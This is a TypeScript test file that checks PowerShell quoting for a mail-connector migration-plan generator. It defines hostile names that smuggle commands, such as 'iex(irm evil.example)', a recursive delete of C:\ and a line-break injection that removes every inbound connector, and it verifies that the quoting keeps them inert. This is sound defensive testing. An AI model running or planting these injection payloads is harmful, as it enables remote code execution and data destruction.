import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { readinessCardModel } from '../../src/admin/readiness/card-model.js';
import { postureOf } from '../../src/admin/readiness/collect-snapshot.js';
import { evaluateReadiness, type ReadinessResult } from '../../src/admin/readiness/evaluate-readiness.js';
import { connectorName } from '../../src/admin/readiness/migration-plan.js';
import { psQuote } from '../../src/admin/readiness/powershell.js';
import { READINESS_CSV_COLUMNS, renderReadinessCsv } from '../../src/admin/readiness/render-csv.js';
import { renderReadinessMarkdown } from '../../src/admin/readiness/render-markdown.js';
import { parseSnapshot } from '../../src/admin/readiness/snapshot.js';
import { readinessCard } from '../../src/cards/readiness-card.js';
import { cardTexts } from '../support/core-harness.js';
import { csvRecords } from '../support/csv-text.js';
import { literalsOf, tokenizeCommand } from '../support/powershell-tokens.js';

const EXAMPLE = join(__dirname, '../../src/admin/examples/tenant-snapshot.json');
const QUOTES = ["'", '\u2018', '\u2019', '\u201A', '\u201B'];
const PAYLOAD = ';iex(irm evil.example)#';

/** Names an attacker can choose: the top sender address a source is named after is written by whoever sends. */
export const HOSTILE_NAMES = [
  ...QUOTES.map((q) => `printer${q}${PAYLOAD}`),
  `attacker\u2019${PAYLOAD}@contoso.com (203.0.113.0/24)`,
  '$(Remove-Item -Recurse C:\\)',
  'back`$tick`n`r',
  "copier\r\nRemove-InboundConnector -Identity * -Confirm:$false\n'",
];

describe('psQuote: PowerShell single-quoted literals', () => {
  test.each(QUOTES)('the quote %s is doubled and the literal holds it verbatim', (quote) => {
    const value = `a${quote}; iex(irm evil.example) #${quote}${quote}`;
    const quoted = psQuote(value);
    expect(quoted).toBe(`'a${quote}${quote}; iex(irm evil.example) #${quote}${quote}${quote}${quote}'`);
    expect(tokenizeCommand(`Get-Thing -Name ${quoted} -Confirm:$false`)).toEqual([
      { kind: 'word', text: 'Get-Thing' },
      { kind: 'word', text: '-Name' },
      { kind: 'literals', values: [value] },
      { kind: 'word', text: '-Confirm:$false' },
    ]);
  });

  test('$(...), backticks and $variables stay literal; line breaks become spaces so a command stays one line', () => {
    expect(psQuote('$(calc) `n $env:PATH')).toBe("'$(calc) `n $env:PATH'");
    expect(psQuote('a\r\nb\u2028c\u0000d')).toBe("'a  b c d'");
  });

  test('the tokenizer itself catches the attack on the old quoting (only ASCII quotes doubled)', () => {
    const old = (value: string): string => `'${value.replace(/'/g, "''")}'`;
    expect(() => literalsOf(`New-InboundConnector -Name ${old(`x\u2019${PAYLOAD}`)} -Enabled $true`)).toThrow(
      /runs into|unexpected/,
    );
  });
});

async function hostileResult(): Promise<ReadinessResult> {
  const base = JSON.parse(readFileSync(EXAMPLE, 'utf8')) as Record<string, any>;
  base.organizationConfig.RejectDirectSend = false;
  base.sources = HOSTILE_NAMES.map((name, i) => ({
    key: `203.0.${113 + i}.0/24`,
    name,
    ips: [`203.0.${113 + i}.7`],
    senders: [`dev${i}@contoso.com`, `x\u2019${PAYLOAD}@contoso.com`],
    status: 'approved',
  }));
  base.sources.push({
    key: '192.0.2.0/24',
    name: `cert\u2018${PAYLOAD}`,
    ips: ['192.0.2.9'],
    senders: ['mfp@contoso.com'],
    status: 'to-migrate',
    certificateName: `mfp\u201B${PAYLOAD}\n.contoso.com`,
  });
  const snapshot = parseSnapshot(base);
  return evaluateReadiness(snapshot, await postureOf(snapshot));
}

/** Every generated command of a result: plan and rollback. */
const scriptsOf = (result: ReadinessResult): string[] =>
  [...result.plan, ...result.rollback].map((s) => s.powershell).filter((p): p is string => !!p);

describe('the migration plan with hostile source names, certificate names and sender addresses', () => {
  let result: ReadinessResult;
  beforeAll(async () => {
    result = await hostileResult();
  });

  test('connector names come from the safe alphabet, and every argument is a literal that holds exactly its value', () => {
    const connectors = result.plan.filter((s) => s.powershell?.startsWith('New-InboundConnector'));
    expect(connectors).toHaveLength(HOSTILE_NAMES.length + 1);
    for (const step of connectors) {
      const literals = literalsOf(step.powershell!);
      expect(literals[0]).toMatch(/^DSG [A-Za-z0-9 ._@()-]+$/);
    }
    const cert = connectors.find((s) => s.sourceKey === '192.0.2.0/24')!;
    expect(literalsOf(cert.powershell!)).toEqual([
      connectorName({ name: `cert\u2018${PAYLOAD}`, key: '192.0.2.0/24' }),
      'contoso.com',
      `mfp\u201B${PAYLOAD} .contoso.com`,
    ]);
    const removal = result.rollback.find((s) => s.id === 'rollback.connectors')!;
    expect(removal.powershell!.split('\n')).toHaveLength(HOSTILE_NAMES.length + 1);
    expect(literalsOf(removal.powershell!)).toEqual(connectors.map((s) => literalsOf(s.powershell!)[0]));
    for (const script of scriptsOf(result)) expect(() => literalsOf(script)).not.toThrow();
  });

  test('the Markdown download: every command inside its code block parses the same, and no text opens a block', () => {
    const markdown = renderReadinessMarkdown(result);
    const lines = markdown.split('\n');
    const fenced: string[] = [];
    let inside = false;
    for (const line of lines) {
      if (/^\s*```/.test(line)) {
        inside = !inside;
        if (inside) expect(line.trim()).toBe('```powershell');
        continue;
      }
      if (inside) fenced.push(line.trim());
    }
    expect(inside).toBe(false);
    expect(fenced.join('\n')).toBe(scriptsOf(result).join('\n'));
    expect(lines.filter((l) => /^\s*```powershell$/.test(l))).toHaveLength(scriptsOf(result).length);
    // The names are shown as text: no heading or list item starts inside them.
    expect(
      lines
        .filter((l) => /^#/.test(l))
        .every((l) =>
          /^#{1,2} (?:RejectDirectSend readiness|Blockers|Warnings and notes|Direct Send sources|DNS posture|Migration plan|Rollback)/.test(
            l,
          ),
        ),
    ).toBe(true);
  });

  test('the CSV download: each source row carries its command, which parses the same', () => {
    const [header, ...rows] = csvRecords(renderReadinessCsv(result));
    expect(header).toEqual(READINESS_CSV_COLUMNS);
    expect(rows).toHaveLength(result.sources.length);
    const column = READINESS_CSV_COLUMNS.indexOf('powershell');
    const commands = rows.map((fields) => fields[column]);
    const expected = result.plan.filter((s) => s.sourceKey).map((s) => s.powershell ?? '');
    expect(commands.filter(Boolean).sort()).toEqual(expected.filter(Boolean).sort());
    for (const command of commands.filter(Boolean)) expect(() => literalsOf(command!)).not.toThrow();
  });

  test('the readiness card shows the commands verbatim (as a reader sees them) and they parse the same', () => {
    const card = readinessCard(readinessCardModel(result));
    const texts = cardTexts(card);
    const shown = scriptsOf(result).filter((script) => texts.includes(script.split('\n').join('\n\n')));
    // The card shows the first steps and the whole rollback.
    expect(shown.length).toBeGreaterThanOrEqual(4);
    for (const script of shown) expect(() => literalsOf(script)).not.toThrow();
  });
});
